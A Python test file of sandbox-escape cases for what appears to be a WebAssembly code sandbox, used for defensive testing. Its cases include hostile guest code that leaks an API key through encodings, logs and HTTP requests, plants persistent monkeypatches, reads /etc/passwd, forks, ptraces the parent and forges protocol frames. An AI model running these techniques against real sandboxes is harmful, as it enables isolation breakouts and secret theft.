"""More cases of our own: outputs that no reader may trip over, logs, secrets, what one run leaves for the next, and
native code that is there only when WebAssembly has been taken away."""

from tests.escape.own_cases import case

SECRET = {"never": ["@SECRET"], "decode": True}


@case("output", "error")
def not_a_number(inputs, ctx):
    return {"a": [1.0, float("nan")]}


@case("output", "error")
def lone_surrogate_in_a_name(inputs, ctx):
    return {"a\ud800": 1}


@case("output", "error")
def holds_itself(inputs, ctx):
    held = []
    held.append(held)
    return held


@case("output", "error")
def ten_megabytes(inputs, ctx):
    return "ä" * (10 << 20)


@case("output", "error")
def huge_integer(inputs, ctx):
    return {"n": 10**4000}


@case("output", "error")
def forged_depth(inputs, ctx):
    import json

    json.dumps = lambda *rest, **options: "[" * 100_000 + "]" * 100_000
    return 1


@case("output", "error")
def forged_constants(inputs, ctx):
    import json

    json.dumps = lambda *rest, **options: '{"a": [NaN, 1e999, -Infinity]}'
    return 1


@case("output", "error")
def forged_digits(inputs, ctx):
    import json

    json.dumps = lambda *rest, **options: "9" * 1_000_000
    return 1


@case("output", "error")
def forged_surrogates(inputs, ctx):
    import json

    json.dumps = lambda *rest, **options: '{"\\ud800": "\\u0000"}'
    return 1


@case("output", "error", "died")
def evil_texts(inputs, ctx):
    class Evil(str):
        def __str__(self):
            raise SystemExit

        __repr__ = __format__ = __str__

    raise ValueError(Evil("x"), Evil("y"))


@case("logs", "timeout", max_logs=1100, max_wall=3)
def empty_lines(inputs, ctx):
    while True:
        ctx.log("")


@case("logs", max_logs=20)
def one_long_line(inputs, ctx):
    for _ in range(64):
        print("z" * 1_000_000, end="")
    return {"escaped": False}


@case("logs")
def log_with_controls(inputs, ctx):
    ctx.log("a\0b\x1b[31m\r\n\ud800", level="\x1b[2J" * 10)
    return {"escaped": False}


@case("secrets", **SECRET)
def secret_in_many_forms(inputs, ctx):
    import base64
    import codecs
    import zlib

    value = ctx.secrets["API_KEY"]
    raw = value.encode()
    return {
        "hex": raw.hex(),
        "b32": base64.b32encode(raw).decode(),
        "b85": base64.b85encode(raw).decode(),
        "z": base64.b64encode(zlib.compress(raw)).decode(),
        "codes": [ord(sign) for sign in value],
        "back": value[::-1],
        "rot": codecs.encode(value, "rot13"),
        "shift": base64.b64encode(b"x" + raw).decode(),
    }


@case("secrets", "error", **SECRET)
def secret_in_an_error_code(inputs, ctx):
    raise ActionError(ctx.secrets["API_KEY"][:60], 400)  # noqa: F821


@case("secrets", **SECRET)
def secret_sign_by_sign(inputs, ctx):
    for sign in ctx.secrets["API_KEY"]:
        print(sign)
    return {"escaped": False}


@case("secrets", never_egress=["@SECRET"], **SECRET)
def secret_in_path_and_body(inputs, ctx):
    for attempt in (
        lambda key: ctx.http.get(f"https://api.allowed.test/{key}"),
        lambda key: ctx.http.get("https://api.allowed.test/echo", params={"k": key}),
        lambda key: ctx.http.post("https://api.allowed.test/echo", json={"k": key}),
        lambda key: ctx.http.post("https://cdn.allowed.test/echo", headers={"X-Key": key}),
        lambda key: ctx.http.get("https://api.allowed.test/echo", headers={key: "x"}),
    ):
        try:
            attempt(ctx.secrets["API_KEY"])
        except PermissionError as error:
            ctx.log(error)
    return {"escaped": False}


@case("secrets", **SECRET)
def secret_as_basic_credentials(inputs, ctx):
    import base64

    pair = base64.b64encode(f"user:{ctx.secrets['API_KEY']}".encode()).decode()
    reply = ctx.http.get("https://api.allowed.test/echo", headers={"Authorization": f"Basic {pair}"})
    return {"escaped": False, "reply": reply.text, "headers": dict(reply.headers)}


@case("secrets", **SECRET)
def guessed_placeholder(inputs, ctx):
    token = ctx.secrets["API_KEY"]
    guess = token[:-1] + ("0" if token[-1] != "0" else "1")
    reply = ctx.http.get("https://api.allowed.test/echo", headers={"X-Key": guess})
    return {"escaped": guess not in reply.text}


@case("persistence", "ok", "error")
def persist_plant(inputs, ctx):
    import builtins
    import json
    import re

    builtins.PLANTED = re.PLANTED = True
    json.dumps = lambda *rest, **options: '"PWNED"'
    return {"escaped": False}


# --- native code: in the guest its modules do not exist


@case("native", "died", "ok", "error")
def native_calls(inputs, ctx):
    import ctypes

    libc = ctypes.CDLL(None, use_errno=True)
    libc.mmap.restype = ctypes.c_long
    executable = libc.mmap(None, 4096, 7, 0x22, -1, 0) != -1
    shared = libc.mmap(None, 4096, 3, 0x21, -1, 0) != -1
    return {"escaped": executable or shared, "executable": executable, "shared": shared}


@case("native", "died", "ok", "error")
def native_open(inputs, ctx):
    import os

    return {"escaped": os.open("/etc/hostname", os.O_RDONLY) >= 0}


@case("native", "died", "ok", "error")
def native_socket(inputs, ctx):
    import socket

    socket.create_connection(("127.0.0.1", 9), timeout=0.1)
    return {"escaped": True}


@case("native", "died", "ok", "error")
def native_fork(inputs, ctx):
    import os

    if os.fork() == 0:
        os._exit(0)
    return {"escaped": True}


@case("native", "died", "ok", "error")
def native_signal_to_parent(inputs, ctx):
    import os

    os.kill(os.getppid(), 0)
    return {"escaped": True}


@case("native", "died", "ok", "error")
def native_trace(inputs, ctx):
    import ctypes
    import os

    return {"escaped": ctypes.CDLL(None).ptrace(16, os.getppid(), 0, 0) == 0}


@case("native", "died", "ok", "error")
def native_memory(inputs, ctx):
    held = bytearray(400 << 20)
    return {"escaped": len(held) > 0}


@case("native", "died", "ok", "error")
def native_names_of_files(inputs, ctx):
    import os

    return {"escaped": bool(os.stat("/etc/passwd"))}


@case("native", "died", "protocol", "ok", "error", "timeout", max_wall=3)
def native_forged_frames(inputs, ctx):
    import os
    import struct

    bodies = [b'{"op": "launch"}', b"[" * 9000, b'{"op": "http"}', b'{"op": "result", "output": "NaN"}', b"\xff\xfe"]
    for descriptor in range(3, 1024):
        for body in bodies:
            try:
                os.write(descriptor, struct.pack(">I", len(body)) + body)
            except OSError:
                break
    return {"escaped": False}


@case("native", "died", "protocol", "ok", "error", "timeout", max_wall=3)
def native_stalled_frame(inputs, ctx):
    import os

    for descriptor in range(3, 1024):
        try:
            os.write(descriptor, b"\x00\x00\x10\x00{")
        except OSError:
            continue
    while True:
        pass
